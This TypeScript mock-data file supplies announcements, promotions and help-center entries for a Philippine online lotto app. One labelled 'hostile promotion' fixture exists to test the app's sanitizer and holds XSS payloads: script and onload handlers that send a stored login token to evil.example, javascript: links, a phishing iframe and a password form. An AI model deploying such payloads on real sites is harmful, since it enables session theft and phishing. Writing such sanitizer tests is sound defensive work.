import type { Announcements, HelpCenterItem } from '../../src/api/generated/wps/wps.schemas';
import { DAY_MS, formatManilaDate } from '../../src/lib/manila-time';

// Announcements in every group, written like an operator would (HTML with tables and images), and one hostile
// promotion (script tags, event handlers, javascript: links, an iframe) so the app's sanitizer always runs.

const img = (name: string) => `/mock-cdn/promo/${name}.svg`;
/** Banner artwork (mock/lib/banner-art.ts), served by the fake image CDN. */
const banner = (name: string) => `/mock-cdn/banner/${name}.svg`;

const PRIZE_TABLE = `<table><thead><tr><th>Game</th><th>Draw days</th><th>Minimum jackpot</th></tr></thead><tbody>
<tr><td>Lotto 6/42</td><td>Tue, Thu, Sat</td><td>₱10,000,000</td></tr>
<tr><td>Mega Lotto 6/45</td><td>Mon, Wed, Fri</td><td>₱15,000,000</td></tr>
<tr><td>Super Lotto 6/49</td><td>Tue, Thu, Sun</td><td>₱25,000,000</td></tr>
<tr><td>Grand Lotto 6/55</td><td>Mon, Wed, Sat</td><td>₱45,000,000</td></tr>
<tr><td>Ultra Lotto 6/58</td><td>Tue, Fri, Sun</td><td>₱75,000,000</td></tr>
</tbody></table>`;

const RANK_TABLE = `<table><tr><th>Rank</th><th>Monthly turnover</th><th>Cashback</th><th>Birthday bonus</th></tr>
<tr><td>Bronze</td><td>₱5,000</td><td>0.3%</td><td>₱100</td></tr>
<tr><td>Silver</td><td>₱50,000</td><td>0.5%</td><td>₱500</td></tr>
<tr><td>Gold</td><td>₱250,000</td><td>0.8%</td><td>₱2,000</td></tr>
<tr><td>Platinum</td><td>₱1,000,000</td><td>1.0%</td><td>₱8,888</td></tr></table>`;

export const HOSTILE_PROMOTION_ID = 499;

const HOSTILE_CONTENT = `<p>Claim your <b>free ₱500</b> now!</p>
<script>document.cookie='stolen='+localStorage.getItem('lotto.token')</script>
<img src="${img('free-500')}" onerror="alert('xss')" onload="fetch('https://evil.example/?t='+localStorage.getItem('lotto.token'))">
<a href="javascript:alert('xss')">Claim here</a> or <a href="JaVaScRiPt:alert(1)" onclick="alert(2)">here</a>
<iframe src="https://evil.example/phish"></iframe>
<div style="background:url(javascript:alert(3))" onmouseover="alert(4)">Hover for a surprise</div>
<svg><script>alert(5)</script></svg><form action="https://evil.example/login"><input name="password"></form>`;

export function buildAnnouncements(now: number): Required<Announcements> {
  const inDays = (days: number) => formatManilaDate(now + days * DAY_MS, '-');
  return {
    // Sorted by `sort`, as an operator orders them; one leaves the app (an https page), the rest open screens.
    banners: [
      {
        id: 301,
        title: 'Ultra Lotto 6/58 jackpot ₱75,000,000',
        announcementImages: [{ url: banner('ul58-jackpot') }],
        link: '/games',
        sort: 1,
      },
      {
        id: 302,
        title: 'First deposit bonus 100% up to ₱1,000',
        announcementImages: [{ url: banner('first-deposit') }],
        link: '/promotion?id=412',
        sort: 2,
      },
      {
        id: 303,
        title: 'Swertres: three draws a day',
        announcementImages: [{ url: banner('swertres') }],
        link: '/draw-result',
        sort: 3,
      },
      {
        id: 304,
        title: 'Play responsibly: for players 21 and over',
        announcementImages: [{ url: banner('play-responsibly') }],
        link: 'https://www.pagcor.ph/regulatory/responsible-gaming.php',
        sort: 4,
      },
    ],
    promotions: [
      {
        id: 412,
        title: 'First deposit bonus 100% up to ₱1,000',
        category: 'lotto_promo',
        content: `<p>Deposit at least <strong>₱100</strong> with GCash or Maya and we double it, up to ₱1,000.</p>
<img src="${img('first-deposit')}" alt="First deposit bonus"><h3>How it works</h3>
<table><tr><th>Deposit</th><th>Bonus</th><th>Turnover</th></tr><tr><td>₱100</td><td>₱100</td><td>10×</td></tr>
<tr><td>₱500</td><td>₱500</td><td>10×</td></tr><tr><td>₱1,000+</td><td>₱1,000</td><td>10×</td></tr></table>`,
        announcementImages: [{ url: img('first-deposit') }],
      },
      {
        id: 413,
        title: 'Jackpot calendar: every draw this week',
        category: 'lotto_promo',
        content: `<p>Every jackpot game, its draw days and its guaranteed minimum.</p>${PRIZE_TABLE}
<p><img src="${img('jackpot-calendar')}" alt="Jackpot calendar"></p>`,
        announcementImages: [{ url: img('jackpot-calendar') }],
      },
      {
        id: 420,
        title: 'Player ranks and rewards',
        category: 'player_rank_rules',
        content: `<p>Your rank is set on the 1st of every month from last month's turnover.</p>${RANK_TABLE}`,
        announcementImages: [{ url: img('ranks') }],
      },
      {
        id: 430,
        title: 'Refer a friend, both get ₱100',
        category: 'other_promo',
        content: `<p>Share your referral code. When your friend deposits ₱500, you both get <em>₱100</em>.</p>
<ul><li>Friends must be 21 or over.</li><li>One reward per friend.</li></ul><img src="${img('refer')}" alt="">`,
        announcementImages: [{ url: img('refer') }],
      },
      {
        id: HOSTILE_PROMOTION_ID,
        title: 'Free ₱500 (hostile content for the sanitizer)',
        category: 'other_promo',
        content: HOSTILE_CONTENT,
        announcementImages: [{ url: img('free-500') }],
      },
    ],
    players: [
      {
        id: 518,
        title: `System maintenance on ${inDays(3)} 02:00-04:00`,
        content:
          '<p>Deposits and withdrawals are paused during maintenance. Draw results are not affected.</p>',
        createTime: now - DAY_MS,
      },
      {
        id: 519,
        title: 'New: Maya deposits',
        content: `<p>You can now deposit with <b>Maya</b>.</p><img src="${img('maya')}" alt="Maya">`,
        createTime: now - 5 * DAY_MS,
      },
    ],
    footer: [
      {
        id: 601,
        title: 'Responsible gaming',
        content: '<p>Players must be 21 or over. Play for fun, set a budget.</p>',
        link: '/more?page=terms_use',
      },
      {
        id: 602,
        title: 'Licensed by PAGCOR',
        content: '<p>Licence information.</p>',
        link: '/more?page=license',
        announcementImages: [{ url: img('pagcor') }],
      },
      { id: 603, title: 'Privacy', link: '/more?page=privacy' },
    ],
    popup: [
      {
        id: 701,
        title: 'Welcome to Lotto PH',
        content: `<p>Play Lotto 6/42, Swertres and EZ2 online.</p><img src="${img('welcome')}" alt="">`,
        execution: 'B',
        noExpiry: true,
        endDate: null,
      },
      {
        id: 702,
        title: 'Your first deposit is doubled',
        content: '<p>Deposit today and get 100% up to ₱1,000.</p>',
        execution: 'F',
        noExpiry: false,
        endDate: inDays(30),
      },
      {
        id: 703,
        title: 'Jackpot alert',
        content: `<p>Ultra Lotto 6/58 is above ₱75 million.</p>${PRIZE_TABLE}`,
        execution: 'A',
        noExpiry: false,
        endDate: inDays(7),
      },
      {
        id: 699,
        title: 'Last month promo (expired)',
        content: '<p>Expired.</p>',
        execution: 'A',
        noExpiry: false,
        endDate: inDays(-2),
      },
    ],
  };
}

export const HELP_CENTER: readonly HelpCenterItem[] = [
  {
    id: 11,
    title: 'How do I register?',
    category: 'account',
    sort: 1,
    content:
      '<p>Tap <b>Register</b>, enter your mobile number, send the code and type it in. You must be 21 or over.</p>',
  },
  {
    id: 12,
    title: 'How do I deposit with GCash?',
    category: 'deposit',
    sort: 2,
    content:
      '<p>Open Deposit, choose GCash, enter an amount from ₱100 and pay in GCash. Upload the receipt; most deposits complete within 5 minutes.</p>',
  },
  {
    id: 13,
    title: 'Withdrawal limits',
    category: 'withdraw',
    sort: 3,
    content: `<table><tr><th>Minimum</th><th>Maximum</th><th>Per day</th></tr><tr><td>₱100</td><td>₱50,000</td><td>5 withdrawals</td></tr></table>`,
  },
  {
    id: 14,
    title: 'Why do I need to verify my ID?',
    category: 'account',
    sort: 4,
    content:
      "<p>The law requires us to know our players. Upload a PhilSys ID, passport, driver's licence, UMID or postal ID and a selfie.</p>",
  },
  {
    id: 15,
    title: 'When are draws?',
    category: 'games',
    sort: 5,
    content: `<p>All times are Philippine time.</p>${PRIZE_TABLE}`,
  },
];
